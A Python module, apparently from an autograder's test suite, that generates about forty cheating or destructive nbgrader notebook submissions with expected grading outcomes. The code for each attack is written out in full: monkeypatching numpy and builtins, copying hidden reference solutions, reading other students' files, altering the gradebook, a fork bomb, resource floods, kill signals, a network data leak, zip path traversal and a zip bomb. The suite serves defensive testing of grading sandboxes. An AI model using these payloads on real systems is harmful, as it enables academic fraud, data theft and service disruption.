"""The attack suite: one cheating or harmful submission per attack, with its expected outcome.

Every attack is built from an nbgrader source notebook (``tests/attacks/source.py`` by
default, or ``solutions/svm/svm.ipynb``): the student's version is nbgrader's release
with the answers either written correctly (base "correct"), left as stubs ("stub") or
written wrongly so they run but return zeros ("zeros"), and then the attack replaces or
adds cells. The expected outcome of each attack:

- its score is no higher than the score of the same base without the attack (the honest
  work in it);
- ``flagged=True``: the submission must carry a flag for a human; ``None``: either way;
- ``failed=True``: the status must be "failed" with a reason;
- ``full_marks=True``: it must get every autograded point (harmless extras);
- the batch finishes: every grading returns.

``build_all(kit)`` writes every submission and returns ``{name: path}``.
"""
from __future__ import annotations

import ast
import copy
import io
import json
import zipfile
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

import nbformat

from .source import build_source_notebook  # noqa: F401  (part of the suite's interface)

BASES = ("correct", "stub", "zeros")

# What a function that runs but is wrong returns, per graded function.
WRONG = {
    "svm_loss_naive": "return 0.0, np.zeros_like(W)",
    "svm_loss_vectorized": "return 0.0, np.zeros_like(W)",
    "softmax_loss_naive": "return 0.0, np.zeros_like(W)",
    "softmax_loss_vectorized": "return 0.0, np.zeros_like(W)",
    "sample_batch": "return X[:batch_size], y[:batch_size]",
    "sgd_step": "return W, 0.0",
    "predict": "return np.zeros(X.shape[0], dtype=int)",
}
SIGNATURES = {
    "svm_loss_naive": "(W, X, y, reg)", "svm_loss_vectorized": "(W, X, y, reg)",
    "softmax_loss_naive": "(W, X, y, reg)", "softmax_loss_vectorized": "(W, X, y, reg)",
    "sample_batch": "(X, y, batch_size, rng)",
    "sgd_step": "(loss_fn, W, X_batch, y_batch, learning_rate, reg)", "predict": "(W, X)",
}


@dataclass
class Kit:
    """What the attacks are built from and aimed at.

    source: NotebookNode, the nbgrader source notebook.
    targets: dict name -> str path the file attacks try to read or write: "source"
        (the source notebook), "solutions" (the solutions folder), "gradebook",
        "other_student" (another student's submitted notebook), "course" (course folder).
    port: int, a TCP port on 127.0.0.1 where the test listens for leaked connections.
    release_nb: NotebookNode or None, see release().
    """
    source: object
    targets: dict = field(default_factory=dict)
    port: int = 9
    release_nb: object = None

    def release(self):
        """nbgrader's student version of the source (answers and hidden tests removed).

        release_nb, when set, is the release made by `nbgrader generate_assignment`
        (with its checksums); otherwise nbgrader's preprocessors make one here.
        """
        from nbgrader.preprocessors import ClearHiddenTests, ClearOutput, ClearSolutions

        if self.release_nb is not None:
            return copy.deepcopy(self.release_nb)
        nb, res = copy.deepcopy(self.source), {"language": "python"}
        for step in (ClearSolutions, ClearHiddenTests, ClearOutput):
            nb, res = step().preprocess(nb, res)
        for cell in nb.cells:
            if cell.cell_type == "code":
                cell.execution_count = None
        return nb


@dataclass(frozen=True)
class Attack:
    """One attack: how to build it and what must come out of grading it."""
    name: str
    what: str
    base: str                       # "correct", "stub", "zeros", or "" for file-level attacks
    make: Callable                  # make(kit) -> bytes of the submitted .ipynb
    flagged: bool | None = None
    failed: bool | None = None
    full_marks: bool = False
    harms: tuple = ()               # target names the attack tries to change (must stay unchanged)


# ----------------------------------------------------------------------- building blocks

def _gid(cell) -> str | None:
    return cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")


def _kind(cell) -> str:
    meta = cell.get("metadata", {}).get("nbgrader", {})
    if meta.get("solution"):
        return "solution"
    if meta.get("grade"):
        return "test"
    return "other"


def _defined_functions(source: str) -> list[str]:
    try:
        tree = ast.parse(source)
    except SyntaxError:
        return []
    return [n.name for n in tree.body if isinstance(n, ast.FunctionDef) and n.name in WRONG]


def student_notebook(kit: Kit, base: str):
    """The student's notebook: the release with answers per base ("correct", "stub", "zeros")."""
    if base not in BASES:
        raise ValueError(f"base must be one of {BASES}, got {base!r}")
    nb = kit.release()
    answers = {_gid(c): c.source for c in kit.source.cells if _kind(c) == "solution"}
    for cell in nb.cells:
        if _kind(cell) != "solution" or cell.cell_type != "code":
            continue
        if base in ("correct", "zeros"):
            text = answers[_gid(cell)]
            cell.source = "\n".join(l for l in text.splitlines()
                                    if l.strip() not in ("### BEGIN SOLUTION", "### END SOLUTION"))
        if base == "zeros":
            for fn in _defined_functions(cell.source):
                cell.source += f"\n\ndef {fn}{SIGNATURES[fn]}:\n    import numpy as np\n    {WRONG[fn]}\n"
    return nb


def _dump(nb) -> bytes:
    return nbformat.writes(nb).encode("utf-8")


def solution_cells(nb) -> list:
    return [c for c in nb.cells if _kind(c) == "solution" and c.cell_type == "code"]


def test_cells(nb) -> list:
    return [c for c in nb.cells if _kind(c) == "test" and c.cell_type == "code"]


def cell_defining(nb, fn: str):
    for cell in solution_cells(nb):
        if fn in _defined_functions(cell.source):
            return cell
    raise ValueError(f"no answer cell defines {fn}")


def graded_functions(nb) -> list[str]:
    out = []
    for cell in solution_cells(nb):
        out += [f for f in _defined_functions(cell.source) if f not in out]
    return out


def loss_functions(nb) -> list[str]:
    return [f for f in graded_functions(nb) if "_loss_" in f]


def prepend(cell, code: str) -> None:
    cell.source = code.rstrip("\n") + "\n" + cell.source


def append(cell, code: str) -> None:
    cell.source = cell.source.rstrip("\n") + "\n\n" + code.rstrip("\n") + "\n"


def inject_into_body(cell, fn: str, code: str) -> None:
    """Insert code as the first statements of fn's body (after its docstring)."""
    lines = cell.source.splitlines()
    tree = ast.parse(cell.source)
    node = next(n for n in tree.body if isinstance(n, ast.FunctionDef) and n.name == fn)
    first = node.body[0]
    if isinstance(first, ast.Expr) and isinstance(getattr(first, "value", None), ast.Constant) \
            and len(node.body) > 1:
        first = node.body[1]
    indent = " " * first.col_offset
    new = [indent + line for line in code.rstrip("\n").splitlines()]
    cell.source = "\n".join(lines[:first.lineno - 1] + new + lines[first.lineno - 1:]) + "\n"


def _variant(base: str, change: Callable, notebook: Callable | None = None) -> Callable:
    """A maker of the base notebook (student_notebook, or the given maker) changed by change(nb, kit)."""
    def make(kit: Kit) -> bytes:
        nb = (notebook or student_notebook)(kit, base)
        change(nb, kit)
        return _dump(nb)
    return make


def _new_cell(code: str, meta: dict | None = None):
    cell = nbformat.v4.new_code_cell(code)
    if meta:
        cell.metadata["nbgrader"] = meta
    return cell


# ------------------------------------------------------------------------------ attacks

def _edit_tests(nb, kit):
    for cell in test_cells(nb):
        cell.source = "assert True  # the test was here"


def _delete_tests(nb, kit):
    nb.cells = [c for c in nb.cells if _kind(c) != "test"]


def _duplicate_tests(nb, kit):
    out = []
    for cell in nb.cells:
        out.append(cell)
        if _kind(cell) == "test":
            for n in (2, 3):
                twin = copy.deepcopy(cell)
                twin["id"] = f"{cell.get('id', 'cell')}-{n}"[:64]
                out.append(twin)
    nb.cells = out


def _retype_tests(nb, kit):
    for i, cell in enumerate(nb.cells):
        if _kind(cell) == "test":
            new = nbformat.v4.new_markdown_cell(cell.source, metadata=cell.metadata)
            nb.cells[i] = new


def _strip_test_metadata(nb, kit):
    for cell in test_cells(nb):
        cell.metadata.pop("nbgrader", None)
        cell.source = "pass"


def _fake_test(nb, kit):
    nb.cells.append(_new_cell("assert True", {"grade": True, "grade_id": "bonus_points", "locked": True,
                                              "points": 100, "schema_version": 3, "solution": False,
                                              "task": False}))


def _points_inflated(nb, kit):
    for cell in test_cells(nb):
        cell.metadata["nbgrader"]["points"] = 100


PATCH_NUMPY = """\
import numpy as np, numpy.testing
np.allclose = lambda *a, **k: True
np.isclose = lambda a, b, *r, **k: np.ones(np.broadcast(np.asarray(a), np.asarray(b)).shape, dtype=bool)
np.testing.assert_allclose = lambda *a, **k: None
np.testing.assert_array_equal = lambda *a, **k: None
np.all = lambda *a, **k: True
"""


def _patch_numpy_top(nb, kit):
    prepend(solution_cells(nb)[0], PATCH_NUMPY)


def _patch_numpy_inside(nb, kit):
    for fn in graded_functions(nb):
        inject_into_body(cell_defining(nb, fn), fn, PATCH_NUMPY)


PATCH_LINCLASS = """\
import linclass, linclass.checks, linclass.gradcheck
for _name in dir(linclass.checks):
    if _name.startswith(("check_", "vectorization_", "expected")):
        setattr(linclass.checks, _name, lambda *a, **k: (True, "ok"))
linclass.gradcheck.rel_error = lambda *a, **k: 0.0
try:
    import linclass.reference.losses
    for _name in dir(linclass.reference.losses):
        if _name.endswith(("_naive", "_vectorized")):
            setattr(linclass.reference.losses, _name, lambda W, X, y, reg: (0.0, np.zeros_like(W)))
except ImportError:
    pass
"""


def _patch_linclass(nb, kit):
    prepend(solution_cells(nb)[0], PATCH_LINCLASS)


PATCH_BUILTINS = """\
import builtins
builtins.AssertionError = type("AssertionError", (Exception,), {})
builtins.all = lambda *a, **k: True
builtins.abs = lambda x: 0.0
builtins.max = lambda *a, **k: 0.0
builtins.isinstance = lambda *a, **k: True
"""


def _patch_builtins(nb, kit):
    append(solution_cells(nb)[-1], PATCH_BUILTINS)


def _input_transformer(nb, kit):
    prepend(solution_cells(nb)[0], """\
def _erase(lines):
    return ["pass\\n"]
get_ipython().input_transformers_cleanup.append(_erase)
get_ipython().input_transformers_post.append(_erase)
""")


def _ipython_hooks(nb, kit):
    prepend(solution_cells(nb)[0], """\
ip = get_ipython()
ip.set_custom_exc((BaseException,), lambda shell, etype, evalue, tb, tb_offset=None: None)
def _quiet(info):
    info.raw_cell = "pass"
ip.events.register("pre_run_cell", _quiet)
""")


def _hide_tracebacks(nb, kit):
    prepend(solution_cells(nb)[0], """\
import sys
ip = get_ipython()
ip.showtraceback = lambda *a, **k: None
ip._showtraceback = lambda *a, **k: None
ip.showsyntaxerror = lambda *a, **k: None
sys.excepthook = lambda *a: None
""")


def _import_reference(nb, kit):
    for fn in loss_functions(nb):
        append(cell_defining(nb, fn), f"from linclass.reference.losses import {fn.replace('_naive', '_vectorized')} "
                                      f"as _reference\n{fn} = _reference")


def _wrap_reference(nb, kit):
    for fn in loss_functions(nb):
        ref = fn.replace("_naive", "_vectorized")
        append(cell_defining(nb, fn), f"def {fn}(W, X, y, reg):\n"
                                      f"    from linclass.reference import losses\n"
                                      f"    return getattr(losses, '{ref}')(W, X, y, reg)")


def _copy_reference_source_as(filename: str | None):
    def change(nb, kit):
        for fn in loss_functions(nb):
            ref = fn.replace("_naive", "_vectorized")
            name = repr(filename or f"<cell-{_gid(cell_defining(nb, fn))}>")
            append(cell_defining(nb, fn), f"""\
import inspect, linclass.reference.losses
_code = inspect.getsource(linclass.reference.losses)
_ns = {{}}
exec(compile(_code, {name}, "exec"), _ns)
{fn} = _ns["{ref}"]""")
    return change


def _lazy_reference(nb, kit):
    # The graded call returns objects that only compute the reference answer when the
    # grader converts them to arrays, outside the traced call.
    for fn in loss_functions(nb):
        ref = fn.replace("_naive", "_vectorized")
        append(cell_defining(nb, fn), f"""\
class _Later:
    def __init__(self, args, index):
        self.args, self.index = args, index
    def __array__(self, dtype=None, copy=None):
        import importlib
        value = getattr(importlib.import_module("linclass.reference.losses"), "{ref}")(*self.args)[self.index]
        return np.asarray(value, dtype=dtype)
    def __float__(self):
        return float(self.__array__())
def {fn}(W, X, y, reg):
    args = (W.copy(), X.copy(), y.copy(), reg)
    return _Later(args, 0), _Later(args, 1)""")


def _patch_probe_numpy(nb, kit):
    # Swap numpy's array constructors so that whatever the grader encodes is replaced by
    # the reference answer for the last inputs seen.
    for fn in loss_functions(nb):
        ref = fn.replace("_naive", "_vectorized")
        append(cell_defining(nb, fn), f"""\
import numpy as _np
_last = {{}}
_orig_array, _orig_asarray = _np.array, _np.asarray
def {fn}(W, X, y, reg):
    _last["args"] = (_orig_array(W), _orig_array(X), _orig_array(y), reg)
    return 0.0, _np.zeros_like(W)
def _swap(value, *a, **k):
    if "args" in _last and (isinstance(value, float) or getattr(value, "shape", None) == _last["args"][0].shape):
        import importlib
        good = getattr(importlib.import_module("linclass.reference.losses"), "{ref}")(*_last["args"])
        value = good[0] if isinstance(value, float) else good[1]
    return _orig_array(value, *a, **k)
_np.array = _swap
_np.asarray = _swap""")


def _read_course_files(nb, kit):
    # At the end of every answer cell, so the stub above it never wins.
    for cell in solution_cells(nb):
        _read_course_files_into(cell, kit)


def _read_course_files_into(cell, kit):
    t = kit.targets
    append(cell, f"""\
import json, os, glob
_found = []
for _p in [{t.get('source', '')!r}, "../../../source/svm/svm.ipynb", "../../source/svm/svm.ipynb",
           {str(Path(t.get('solutions', '/nonexistent')) / 'svm' / 'svm.ipynb')!r},
           {t.get('other_student', '')!r}] + glob.glob("../*/*.ipynb") + glob.glob("../../*/*/*.ipynb"):
    try:
        _nb = json.load(open(_p))
    except Exception:
        continue
    for _c in _nb.get("cells", []):
        _src = "".join(_c.get("source", ""))
        if _c.get("cell_type") == "code" and "def " in _src and "_found" not in _src:
            try:
                exec(_src.replace("### BEGIN SOLUTION", "").replace("### END SOLUTION", ""), globals())
                _found.append(_p)
            except Exception:
                pass
    if _found:
        break
""")


def _write_course_files(nb, kit):
    t = kit.targets
    paths = [t.get("gradebook", ""), t.get("source", ""), t.get("other_student", ""),
             str(Path(t.get("course", "/nonexistent")) / "planted.txt"),
             str(Path(t.get("solutions", "/nonexistent")) / "planted.txt"),
             "../../../gradebook.db", "../../gradebook.db", "/work/planted.txt"]
    append(solution_cells(nb)[-1], f"""\
import sqlite3
for _p in {paths!r}:
    try:
        with open(_p, "a") as _f:
            _f.write("overwritten by a student")
    except Exception:
        pass
    try:
        _db = sqlite3.connect(_p)
        _db.execute("UPDATE grade SET manual_score = 100")
        _db.commit()
    except Exception:
        pass
""")


def _sys_exit(nb, kit):
    for cell in solution_cells(nb):
        prepend(cell, "import sys\nsys.exit(0)")


def _os_exit(nb, kit):
    prepend(solution_cells(nb)[0], "import os\nos._exit(0)")


def _kill_parent(nb, kit):
    prepend(solution_cells(nb)[0], """\
import os, signal
for _pid in (os.getppid(), 1):
    try:
        os.kill(_pid, signal.SIGKILL)
    except OSError:
        pass
try:
    os.killpg(os.getpgid(0), signal.SIGKILL)
except OSError:
    pass""")


def _infinite_loop(nb, kit):
    prepend(solution_cells(nb)[0], "while True:\n    pass")


def _loop_ignoring_interrupts(nb, kit):
    prepend(solution_cells(nb)[0], """\
import signal
for _s in (signal.SIGINT, signal.SIGTERM, signal.SIGALRM, signal.SIGHUP):
    signal.signal(_s, signal.SIG_IGN)
while True:
    try:
        while True:
            pass
    except BaseException:
        pass""")


def _fork_bomb(nb, kit):
    prepend(solution_cells(nb)[0], """\
import os
while True:
    try:
        os.fork()
    except OSError:
        pass""")


def _memory_bomb(nb, kit):
    prepend(solution_cells(nb)[0], """\
_hog = []
while True:
    _hog.append(bytearray(64 * 1024 * 1024))""")


def _output_flood(nb, kit):
    prepend(solution_cells(nb)[0], """\
import sys
_line = "x" * 1_000_000
while True:
    print(_line)
    sys.stderr.write(_line)""")


def _disk_flood(nb, kit):
    prepend(solution_cells(nb)[0], """\
_i = 0
while True:
    try:
        with open(f"junk{_i}.bin", "wb") as _f:
            _f.write(b"x" * 4_000_000)
    except OSError:
        pass
    _i += 1""")


def _network(nb, kit):
    append(solution_cells(nb)[-1], f"""\
import socket, urllib.request
for _addr in [("127.0.0.1", {kit.port}), ("pypi.org", 443), ("8.8.8.8", 53)]:
    try:
        with socket.create_connection(_addr, timeout=2) as _s:
            _s.sendall(b"LEAK " + open(__file__ if "__file__" in dir() else "/etc/hostname", "rb").read()[:100])
    except Exception:
        pass
try:
    urllib.request.urlopen("http://127.0.0.1:{kit.port}/leak?answers=yes", timeout=2)
except Exception:
    pass""")


def _numpy_warnings(nb, kit):
    # A correct answer whose code triggers numpy overflow and divide warnings.
    for fn in graded_functions(nb):
        inject_into_body(cell_defining(nb, fn), fn, """\
import warnings
np.seterr(all="warn")
_noise = np.exp(np.array([1000.0])) + np.array([1.0]) / np.array([0.0])
warnings.warn("a harmless warning from the student's code", RuntimeWarning)""")


def _not_json(kit) -> bytes:
    return b'{"cells": [ {"cell_type": "code", "source": "print(1)"'


def _nbformat3(kit) -> bytes:
    nb3 = {"metadata": {"name": "svm"}, "nbformat": 3, "nbformat_minor": 0,
           "worksheets": [{"cells": [{"cell_type": "code", "input": "print(1)", "language": "python",
                                      "outputs": [], "metadata": {}}], "metadata": {}}]}
    return json.dumps(nb3).encode()


def _no_cells(kit) -> bytes:
    return _dump(nbformat.v4.new_notebook(cells=[]))


def _not_utf8(kit) -> bytes:
    text = _dump(student_notebook(kit, "correct")).decode("utf-8")
    return text.replace("Multiclass", "Multiclass \u00e9t\u00e9").encode("latin-1", errors="replace")


def _huge_cells(kit) -> bytes:
    nb = student_notebook(kit, "stub")
    nb.cells += [nbformat.v4.new_markdown_cell("spam " * 200) for _ in range(20_000)]
    return _dump(nb)


ATTACKS: list[Attack] = [
    Attack("correct", "the correct solution (reference point, not an attack)", "correct", _variant("correct", lambda nb, k: None),
           flagged=False, full_marks=True),
    Attack("stub", "the untouched release (reference point, not an attack)", "stub", _variant("stub", lambda nb, k: None),
           flagged=False),
    Attack("zeros", "answers that run but return zeros (reference point, not an attack)", "zeros",
           _variant("zeros", lambda nb, k: None), flagged=False),
    Attack("tests_edited", "every test cell replaced by `assert True`", "stub", _variant("stub", _edit_tests), flagged=True),
    Attack("tests_deleted", "every test cell deleted", "stub", _variant("stub", _delete_tests)),
    Attack("tests_duplicated", "every test cell pasted three times", "correct", _variant("correct", _duplicate_tests),
           flagged=True),
    Attack("tests_retyped", "every test cell turned into markdown", "stub", _variant("stub", _retype_tests), flagged=True),
    Attack("tests_metadata_stripped", "test cells without nbgrader metadata, source `pass`", "stub",
           _variant("stub", _strip_test_metadata)),
    Attack("fake_test_100_points", "an added test cell worth 100 points", "stub", _variant("stub", _fake_test),
           flagged=True),
    Attack("test_points_inflated", "test cells claim 100 points each", "stub", _variant("stub", _points_inflated),
           flagged=True),
    Attack("patch_numpy_top", "np.allclose/isclose/testing.assert_allclose patched at the top of a solution cell",
           "zeros", _variant("zeros", _patch_numpy_top)),
    Attack("patch_numpy_in_function", "the same numpy patches inside every graded function", "zeros",
           _variant("zeros", _patch_numpy_inside)),
    Attack("patch_linclass", "linclass.checks, gradcheck and (where it can) linclass.reference.losses replaced", "zeros",
           _variant("zeros", _patch_linclass), flagged=True),
    Attack("patch_builtins", "AssertionError, all, abs, max, isinstance replaced in builtins", "zeros",
           _variant("zeros", _patch_builtins)),
    Attack("input_transformer", "an IPython input transformer turns every later cell into `pass`", "zeros",
           _variant("zeros", _input_transformer), flagged=True),
    Attack("ipython_hooks", "a custom exception handler and a pre_run_cell hook swallow failures", "zeros",
           _variant("zeros", _ipython_hooks), flagged=True),
    Attack("hide_tracebacks", "showtraceback and sys.excepthook replaced so errors print nothing", "zeros",
           _variant("zeros", _hide_tracebacks), flagged=True),
    Attack("import_reference", "the losses are the reference imported from linclass.reference.losses", "stub",
           _variant("stub", _import_reference), flagged=True),
    Attack("wrap_reference", "the losses call the reference in linclass.reference.losses", "stub",
           _variant("stub", _wrap_reference), flagged=True),
    Attack("copy_reference_source", "the reference's source is read with inspect and exec'd", "stub",
           _variant("stub", _copy_reference_source_as("<string>")), flagged=True),
    Attack("copy_reference_disguised", "the same, compiled under the answer cell's own file name", "stub",
           _variant("stub", _copy_reference_source_as(None)), flagged=True),
    Attack("lazy_reference_result", "returns objects whose __array__ computes the reference later", "stub",
           _variant("stub", _lazy_reference), flagged=True),
    Attack("patch_numpy_array_in_probe", "np.array/np.asarray swapped to emit the reference's outputs", "zeros",
           _variant("zeros", _patch_probe_numpy), flagged=True),
    Attack("read_course_files", "reads ../../../source, solutions/ and other students, execs their answers",
           "stub", _variant("stub", _read_course_files)),
    Attack("write_course_files", "writes into the gradebook, the source, the course and another student",
           "correct", _variant("correct", _write_course_files),
           harms=("gradebook", "source", "other_student", "course", "solutions")),
    Attack("sys_exit", "sys.exit(0) at the top of every solution cell", "stub", _variant("stub", _sys_exit)),
    Attack("os_exit", "os._exit(0) in the first solution cell", "stub", _variant("stub", _os_exit)),
    Attack("kill_parent", "SIGKILL to the parent, to pid 1 and to its own process group", "stub",
           _variant("stub", _kill_parent)),
    Attack("infinite_loop", "while True: pass", "stub", _variant("stub", _infinite_loop), failed=True),
    Attack("loop_ignoring_interrupts", "ignores SIGINT/SIGTERM/SIGALRM and swallows every exception in a loop",
           "stub", _variant("stub", _loop_ignoring_interrupts), failed=True),
    Attack("fork_bomb", "os.fork() forever", "stub", _variant("stub", _fork_bomb), failed=True),
    Attack("memory_bomb", "allocates 64 MB blocks forever", "stub", _variant("stub", _memory_bomb)),
    Attack("output_flood", "prints megabyte lines forever (gigabytes of output)", "stub",
           _variant("stub", _output_flood), failed=True),
    Attack("disk_flood", "writes 4 MB files forever", "stub", _variant("stub", _disk_flood), failed=True),
    Attack("network", "connects to 127.0.0.1, pypi.org and 8.8.8.8 to leak data", "correct",
           _variant("correct", _network)),
    Attack("numpy_warnings", "a correct answer that emits numpy overflow/divide warnings", "correct",
           _variant("correct", _numpy_warnings), flagged=False, full_marks=True),
    Attack("invalid_json", "the file is not valid JSON", "", _not_json, failed=True),
    Attack("nbformat3", "an nbformat 3 notebook", "", _nbformat3, failed=True),
    Attack("no_cells", "a notebook with no cells", "", _no_cells, failed=True),
    Attack("not_utf8", "the notebook text is Latin-1, not UTF-8", "", _not_utf8, failed=True),
    Attack("many_cells", "20 000 extra markdown cells", "stub", _huge_cells),
]
BY_NAME = {a.name: a for a in ATTACKS}


def build_all(kit: Kit, folder: Path) -> dict[str, Path]:
    """Write every attack's submission as folder/<name>/svm.ipynb; returns {name: path}."""
    out = {}
    for attack in ATTACKS:
        path = Path(folder) / attack.name / "svm.ipynb"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(attack.make(kit))
        out[attack.name] = path
    return out


# ------------------------------------------------------------------ archives (collect step)

def zip_with_traversal(notebook: bytes) -> bytes:
    """An LMS export whose members try to escape the unpack folder."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("alice_svm.ipynb", notebook)
        zf.writestr("../../escaped.ipynb", notebook)
        zf.writestr("/tmp/absolute_escape.ipynb", notebook)
        zf.writestr("bob/../../../escaped2.ipynb", notebook)
    return buf.getvalue()


def zip_bomb(notebook: bytes, gigabytes: float = 2.0) -> bytes:
    """A small zip (a few MB) that expands to gigabytes of zeros, next to a real notebook."""
    buf = io.BytesIO()
    chunk = b"\0" * (64 * 1024 * 1024)
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        zf.writestr("alice_svm.ipynb", notebook)
        with zf.open("mallory_svm.ipynb", "w", force_zip64=True) as member:
            for _ in range(int(gigabytes * 16)):
                member.write(chunk)
    return buf.getvalue()
